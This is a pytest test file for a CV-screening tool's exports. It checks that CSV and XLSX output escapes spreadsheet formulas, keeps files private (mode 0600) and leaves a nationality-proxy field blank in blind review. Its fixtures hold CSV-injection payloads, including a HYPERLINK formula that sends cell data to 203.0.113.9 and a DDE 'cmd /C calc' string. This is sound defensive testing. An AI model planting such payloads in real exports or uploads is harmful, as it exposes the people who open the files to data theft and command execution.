"""Exports: no spreadsheet cell is a formula (OWASP CSV injection), numbers stay numbers, files are mode 0600."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from screener.cli import main
from screener.errors import UsageError
from screener.exports import private_file, safe_cell, write_private

ROOT = Path(__file__).resolve().parent.parent
RUBRIC = ROOT / "rubrics" / "financial-analyst.yaml"
CV = (ROOT / "sample_data" / "grace_mensah_financial_analyst.txt").read_text(encoding="utf-8")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"x\")", "'=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),  # after leading whitespace
    ("\n@x", "'\n@x"),
    ("-", "'-"),
    ("-3.5", "-3.5"),  # a genuine number stays as written
    ("+2", "+2"),
    ("-1e-3", "-1e-3"),
    ("Grace Mensah", "Grace Mensah"),
    ("a=b", "a=b"),
    ("", ""),
    ("'=already", "'=already"),
    (-3.5, -3.5),
    (0, 0),
    (True, True),
    (None, None),
])
def test_safe_cell(value: object, expected: object) -> None:
    out = safe_cell(value)
    assert out == expected and type(out) is type(expected)


HOSTILE_FILES = {
    "=HYPERLINK(\"http:⁄⁄203.0.113.9\",\"cv\").txt": "Grace Mensah",
    "@SUM(1+1)cmd.txt": "Ann Other",
    "+1+1 cv.txt": "Ben Other",
    "-2+3 cv.txt": "Cy Other",
    "\tcv.txt": "Di Other",
}


@pytest.fixture(autouse=True)
def _own_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SCREENER_DB", str(tmp_path / "store" / "screener.db"))  # `screen` records its runs


@pytest.fixture
def permissive_umask() -> Iterator[None]:
    old = os.umask(0)
    yield
    os.umask(old)


@pytest.fixture
def hostile_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    for name, who in HOSTILE_FILES.items():
        (folder / name).write_text(CV.replace("Grace Mensah", who), encoding="utf-8")
    return folder


def _screen(capsys: pytest.CaptureFixture[str], folder: Path, *extra: str) -> str:
    code = main(["screen", "--rubric", str(RUBRIC), str(folder), "--as-of", "2026-12-01", *extra])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def _assert_no_formula_text(cells: list[object]) -> None:
    for v in cells:
        if isinstance(v, str) and v:
            assert not v.lstrip(" \t\r\n").startswith(FORMULA_STARTS) or v.startswith("'"), repr(v)


def test_csv_on_stdout_and_out_file_escape_formulas(capsys: pytest.CaptureFixture[str], hostile_folder: Path,
                                                    tmp_path: Path, permissive_umask: None) -> None:
    out_csv = tmp_path / "ranking.csv"
    for text in (_screen(capsys, hostile_folder), (_screen(capsys, hostile_folder, "--out", str(out_csv)),
                                                   out_csv.read_text(encoding="utf-8"))[1]):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(HOSTILE_FILES)
        files = {r["file"] for r in rows}
        assert "'" + next(iter(HOSTILE_FILES)) in files and "'@SUM(1+1)cmd.txt" in files
        for r in rows:
            _assert_no_formula_text(list(r.values()))
            assert r["overall"] == "" or float(r["overall"]) >= 0  # numbers are still plain numbers
    assert stat.S_IMODE(out_csv.stat().st_mode) == 0o600


def test_xlsx_has_no_formula_and_numbers_stay_numeric(capsys: pytest.CaptureFixture[str], hostile_folder: Path,
                                                      tmp_path: Path, permissive_umask: None) -> None:
    out = tmp_path / "ranking.xlsx"
    _screen(capsys, hostile_folder, "--out", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    _assert_no_formula_text([c.value for c in cells])
    overall = [row[header.index("overall")].value for row in ws.iter_rows(min_row=2)]
    assert all(isinstance(v, (int, float)) for v in overall)
    files = [row[header.index("file")].value for row in ws.iter_rows(min_row=2)]
    assert "'+1+1 cv.txt" in files


def test_json_export_is_private_and_unescaped(capsys: pytest.CaptureFixture[str], hostile_folder: Path,
                                              tmp_path: Path, permissive_umask: None) -> None:
    out = tmp_path / "results.json"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o644)  # an existing, readable file is tightened too
    _screen(capsys, hostile_folder, "--out", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    files = {r["file"] for r in json.loads(out.read_text(encoding="utf-8"))["results"]}
    assert files == set(HOSTILE_FILES)  # JSON is data, not a spreadsheet: kept as written


def test_private_file_modes_and_errors(tmp_path: Path, permissive_umask: None) -> None:
    write_private(tmp_path / "a.txt", "x")
    write_private(tmp_path / "b.bin", b"\x00")
    with private_file(tmp_path / "c.txt") as fh:
        fh.write("y")
    for name in ("a.txt", "b.bin", "c.txt"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
    with pytest.raises(UsageError, match="cannot write"):
        write_private(tmp_path / "missing" / "x.csv", "x")


def test_blind_ranking_leaves_the_foreign_credential_marker_empty_never_no() -> None:
    """Blind review hides the foreign-credential marker (a nationality proxy); its redacted value read 'no' for every
    candidate in the blind CSV, a wrong answer rather than a hidden one."""
    from datetime import date

    from screener.pipeline import ScreenOptions, screen
    from screener.report import ranking_rows
    from screener.rubric import load_rubric

    root = Path(__file__).resolve().parents[1]
    cv = ("Ana Souza\nana@example.com\n\nEXPERIENCE\nSoftware Engineer, Brightwater Logistics, 2019 - 2024\n"
          "- Built services in Python.\n\nEDUCATION\nBacharelado em Ciência da Computação, Universidade de São Paulo, "
          "Brasil, 2018\n")
    run = screen(load_rubric(root / "rubrics" / "software-engineer.yaml"), [("ana.txt", cv.encode())],
                 options=ScreenOptions(as_of=date(2026, 12, 1), sandbox=False))
    assert ranking_rows(run, [])[0]["foreign_credential"] == "yes"
    assert ranking_rows(run, [], blind=True)[0]["foreign_credential"] == ""
